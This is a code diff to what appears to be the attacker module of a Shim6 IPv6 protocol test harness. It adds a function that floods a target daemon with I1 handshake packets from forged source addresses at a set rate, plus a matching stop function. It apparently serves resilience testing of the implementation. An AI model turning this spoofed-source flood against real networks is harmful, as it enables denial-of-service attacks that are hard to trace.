@@ -23,7 +23,7 @@ import { loadAddon } from '../../native/addon.ts';
 import { formatIpv6, parseIpv6 } from '../../shim/wire/ipv6.ts';
 import { generateCga } from '../../shim/wire/cga.ts';
 import { VerificationMethod } from '../../shim/constants.ts';
-import type { CaptureQuery, CgaFloodArgs, ClaimArgs, CgaFloodResult, FloodArgs, FloodResult, HandshakeArgs, HandshakeResult, InboxSummary, SprayArgs } from './attacker.ts';
+import type { CaptureQuery, CgaFloodArgs, ClaimArgs, CgaFloodResult, FloodArgs, FloodResult, HandshakeArgs, HandshakeResult, InboxSummary, SpoofFloodArgs, SpoofFloodResult, SprayArgs } from './attacker.ts';
 
 const SHIM6_PORT = 5533;
 const RETRY_MS = 1000;
@@ -321,6 +321,73 @@ async function flood(a: FloodArgs): Promise<FloodResult> {
   return { sent: a.count, replies, types, sendMs: tSent - t0, lastReplyMs: tLast === 0 ? 0 : tLast - t0, barrierMs: tBarrier - t0 };
 }
 
+/** The running `spoofFlood`, if any. */
+let spoofing: { stop: boolean; sent: number; t0: number; done: Promise<void> } | undefined;
+
+/**
+ * Start a flood of I1s (fresh tags and nonces) at `rate` per second, round robin over `prefixes`
+ * forged sources `<prefix48>:<i>::1` — one per /64 — through one socket of the addon (IPV6_PKTINFO
+ * names each source: needs `net.ipv6.ip_nonlocal_bind`, Attacker.allowForgedSources), until
+ * `spoofFloodStop`. The replies go where the daemon routes those prefixes; none are read here.
+ */
+function spoofFlood(a: SpoofFloodArgs): { started: true } {
+  if (spoofing !== undefined) throw new Error('a spoofed flood is already running');
+  const addon = loadAddon();
+  const [fd] = addon.udpOpen(0, 4 << 20, false);
+  // A reader (replies ignored) gives the socket a handle to close it by.
+  const slot = 2048, slots = 8;
+  const handle = addon.udpStartReader(fd, new ArrayBuffer(slot * slots), slot, slots, new ArrayBuffer(RECV_META * slots), () => undefined);
+  const packets = Array.from({ length: 1024 }, () => encodeMessage({ type: 'I1', contextTag: tag47(), initiatorNonce: u32(), options: [] }));
+  const offsets: number[] = [];
+  let size = 0;
+  for (const p of packets) { offsets.push(size); size += p.length; }
+  const arena = new ArrayBuffer(size);
+  packets.forEach((p, i) => new Uint8Array(arena).set(p, offsets[i]!));
+  const sendMeta = new ArrayBuffer(SEND_META * FLOOD_BATCH);
+  const sendBytes = new Uint8Array(sendMeta);
+  const sendView = new DataView(sendMeta);
+  const srcBytes = Array.from({ length: a.prefixes }, (_, i) => parseIpv6(`${a.prefix48}:${i.toString(16)}::1`));
+  const dstBytes = parseIpv6(a.dst);
+  const loop = { stop: false, sent: 0, t0: performance.now(), done: Promise.resolve() };
+  loop.done = (async () => {
+    try {
+      while (!loop.stop) {
+        const due = Math.floor(((performance.now() - loop.t0) / 1000) * a.rate);
+        while (loop.sent < due) {
+          const n = Math.min(FLOOD_BATCH, due - loop.sent);
+          for (let k = 0; k < n; k++) {
+            const j = loop.sent + k, m = k * SEND_META;
+            sendBytes.set(srcBytes[j % srcBytes.length]!, m);
+            sendBytes.set(dstBytes, m + 16);
+            sendView.setUint16(m + 32, SHIM6_PORT);
+            sendView.setUint32(m + 36, offsets[j % packets.length]!, true);
+            sendView.setUint32(m + 40, packets[j % packets.length]!.length, true);
+          }
+          // What the socket refuses (its buffer full) is lost, as on the wire; the count is what was handed over.
+          addon.udpSend(fd, arena, sendMeta, n, false);
+          loop.sent += n;
+        }
+        // Every millisecond (the timers' grain): a few I1s at a time, nearly as smooth as many attackers' would be.
+        await sleep(1);
+      }
+    } finally {
+      addon.udpClose(handle);
+    }
+  })();
+  spoofing = loop;
+  return { started: true };
+}
+
+/** Stop the `spoofFlood`; how many I1s it sent, over how long. */
+async function spoofFloodStop(): Promise<SpoofFloodResult> {
+  const loop = spoofing;
+  if (loop === undefined) throw new Error('no spoofed flood running');
+  loop.stop = true;
+  await loop.done;
+  spoofing = undefined;
+  return { sent: loop.sent, sendMs: performance.now() - loop.t0 };
+}
+
 /** The running `startClaims` loop, if any. */
 let claims: { stop: boolean; sent: number; done: Promise<void> } | undefined;
 
@@ -423,7 +490,7 @@ async function cgaFlood(a: CgaFloodArgs): Promise<CgaFloodResult> {
 }
 
 const OPS: Record<string, (args: never) => Promise<unknown> | unknown> = {
-  socket, handshake, inbox, capture, captured: capturedCount, waitCaptured, sniffTag, spray, flood, startClaims, stopClaims, cgaFlood,
+  socket, handshake, inbox, capture, captured: capturedCount, waitCaptured, sniffTag, spray, flood, startClaims, stopClaims, cgaFlood, spoofFlood, spoofFloodStop,
   cgaFloodStop: () => { cgaFloodStop = true; return {}; },
 };
 
